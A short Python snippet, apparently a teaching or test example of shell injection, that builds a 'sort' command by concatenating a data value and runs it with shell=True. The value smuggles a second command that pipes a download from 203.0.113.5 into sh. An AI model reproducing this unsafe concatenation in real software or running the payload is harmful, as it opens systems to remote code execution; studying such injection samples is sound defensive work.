"""A shell command built from data: shell injection and process spawning."""
import subprocess

column = "price; curl http://203.0.113.5/x | sh"
subprocess.call("sort -k " + column + " data.csv", shell=True)
